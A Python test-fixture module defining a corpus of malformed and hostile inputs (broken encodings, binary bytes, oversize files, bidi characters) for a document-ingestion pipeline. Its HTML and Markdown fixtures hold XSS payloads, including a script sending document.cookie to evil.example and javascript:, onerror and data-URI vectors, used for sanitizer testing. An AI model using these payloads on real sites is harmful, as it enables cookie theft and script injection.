"""The bad-input corpus: each case is named, built in memory (binary and large ones are never committed),
and says what a clean outcome is: ingested, or a clear failure with this error code."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

INGESTED = "ingested"
# The limit the corpus runs under (a setting); the real 50 MB payload has its own tests.
TEST_LIMIT_BYTES = 2 * 1024 * 1024

ZH_HANS = "GPT-3是由OpenAI开发的大型语言模型。InstructGPT是在GPT-3基础上微调得到的。谷歌发布了T5模型。\n"
ZH_HANT = "GPT-3是由OpenAI開發的大型語言模型。InstructGPT是在GPT-3基礎上微調得到的。谷歌發布了T5模型。\n"
EN = "GPT-3 was developed by OpenAI. InstructGPT is fine-tuned from GPT-3. Alpaca is fine-tuned from LLaMA.\n"
DE = "GPT-3 wurde von OpenAI entwickelt. Die Größe des Modells beträgt 175 Milliarden Parameter.\n"


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Callable[[], bytes]
    expect: str  # INGESTED, or the code of the clear error it must fail with
    keeps: str = ""  # text the stored document must contain verbatim: proof it was decoded right


def _png() -> bytes:
    header = struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(header)) + chunk + struct.pack(">I", zlib.crc32(chunk))


def _pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


def _oversize() -> bytes:
    line = EN.encode()
    return line * (TEST_LIMIT_BYTES // len(line) + 1)


def _invalid_utf8() -> bytes:
    good = (DE + ZH_HANS).encode("utf-8")
    cut = good.index("ö".encode()) + 1  # half of a two-byte sequence, then the text goes on
    return good[:cut] + good[cut + 1 :]


def _one_mb_line() -> bytes:
    """One line of about a megabyte: ordinary prose with a few facts, no line break anywhere."""
    filler = "The committee discussed the weather and the harvest at great length. " * 400
    facts = [
        "Vicuna is fine-tuned from LLaMA.",
        "Gopher was developed by DeepMind.",
        "InstructGPT is fine-tuned from GPT-3.",
    ]
    pieces = []
    while sum(len(p) for p in pieces) < 1024 * 1024:
        pieces.append(filler)
        pieces.append(facts[len(pieces) // 2 % len(facts)] + " ")
    return "".join(pieces).encode()


HOSTILE_HTML = """<!doctype html><html><head><title>GPT-3 <script>alert('title')</script></title>
<script>document.location='https://evil.example/?'+document.cookie</script></head><body>
<h1 onclick="alert('h1')">GPT-3</h1>
<p>GPT-3 was developed by OpenAI.<img src=x onerror="alert('img')"></p>
<p><a href="javascript:alert('link')">InstructGPT</a> is fine-tuned from GPT-3.</p>
<p><a href="jav&#x09;ascript:alert('entity')">Alpaca</a> is fine-tuned from LLaMA.</p>
<svg onload="alert('svg')"><circle r="1"/></svg><iframe src="https://evil.example"></iframe>
<form action="javascript:alert('form')"><button formaction="javascript:alert(1)">go</button></form>
<div style="background:url(javascript:alert('css'))">Vicuna is fine-tuned from LLaMA.</div>
</body></html>
"""

HOSTILE_MARKDOWN = """# Alpaca <script>alert('heading')</script>

Alpaca is fine-tuned from LLaMA. <img src=x onerror=alert('img')>

<script>alert('block')</script>

<div onclick="alert('div')">Vicuna is fine-tuned from LLaMA.</div>

[Stanford](javascript:alert('md-link')) and ![pic](javascript:alert('md-img'))
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
"""

ONLY_NOISE = "关注我们，获取更多AI资讯！\n点击关注，转发分享\n[图片]\n扫码加群，领取资料\n"

MALFORMED_ARXIV = (
    "GPT-3 was introduced in arXiv:20O5.14165 (a letter O, not a zero) and described at "
    "https://arxiv.org/abs/99999.1 and arXiv:2005.1; none of these is an arXiv id.\n"
)

CASES = (
    Case("empty", "empty.txt", lambda: b"", "empty_input"),
    Case("only_whitespace", "blank.txt", lambda: b" \r\n\t\n  \n", "empty_input"),
    Case("png_bytes", "figure.txt", _png, "unreadable_input"),
    Case("pdf_bytes", "paper.txt", _pdf, "unreadable_input"),
    Case("nul_bytes", "nul.txt", lambda: EN.encode() + b"\x00\x01\x00" + EN.encode(), "unreadable_input"),
    Case("over_the_limit", "big.txt", _oversize, "input_too_large"),
    Case("invalid_utf8", "broken.txt", _invalid_utf8, "unreadable_input"),
    Case("gbk_undeclared", "gbk.txt", lambda: ZH_HANS.encode("gbk"), INGESTED, "在GPT-3基础上微调"),
    Case("big5_undeclared", "big5.txt", lambda: ZH_HANT.encode("big5"), INGESTED, "在GPT-3基礎上微調"),
    Case("utf16_bom", "u16.txt", lambda: ZH_HANS.encode("utf-16"), INGESTED, "谷歌发布了T5模型"),
    Case("utf16le_no_bom", "u16le.txt", lambda: ZH_HANS.encode("utf-16-le"), INGESTED, "谷歌发布了T5模型"),
    Case("utf16be_no_bom", "u16be.txt", lambda: (EN + DE).encode("utf-16-be"), INGESTED, "Die Größe"),
    Case(
        "mixed_scripts",
        "mixed.txt",
        lambda: (
            "GPT-3 是 OpenAI 开发的。Модель LLaMA от Meta. نموذج GPT-3 🦙 Alpaca wurde feinjustiert.\n" + EN
        ).encode(),
        INGESTED,
        "Модель LLaMA от Meta. نموذج GPT-3 🦙",
    ),
    Case(
        "zero_width_and_bidi",
        "bidi.txt",
        lambda: (
            "GPT\u200b-3 was developed by Open\u200dAI. \u202eInstructGPT\u202c is fine-tuned from GPT-3.\n"
            "\u2066Alpaca\u2069 is fine-tuned from LLaMA.\ufeff Unterminated \u202eoverride at the end\n"
        ).encode(),
        INGESTED,
        "\u202eInstructGPT\u202c",
    ),
    Case("one_mb_line", "long.txt", _one_mb_line, INGESTED, "Gopher was developed by DeepMind."),
    Case("html_hostile", "hostile.html", HOSTILE_HTML.encode, INGESTED, "GPT-3 was developed by OpenAI."),
    Case("markdown_raw_html", "hostile.md", HOSTILE_MARKDOWN.encode, INGESTED, "Alpaca is fine-tuned from LLaMA."),
    Case("only_noise", "noise.txt", ONLY_NOISE.encode, INGESTED, "扫码加群"),
    Case("malformed_arxiv_in_text", "arxiv.txt", MALFORMED_ARXIV.encode, INGESTED, "arXiv:20O5.14165"),
)
